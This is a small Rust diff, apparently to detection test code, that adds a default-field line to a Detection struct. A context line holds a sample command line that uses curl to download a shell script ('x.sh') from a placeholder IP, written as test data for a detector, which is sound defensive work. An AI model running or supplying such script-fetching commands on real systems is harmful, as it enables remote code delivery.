@@ -89,6 +89,7 @@ async fn target(bin: &std::path::Path, name: &str) -> Result<Target> {
                     executable: None,
                     command_line: format!("/usr/bin/curl -fsSL http://198.51.100.{seq}/x.sh"),
                 }),
+                ..Detection::default()
             })),
         })
         .collect();
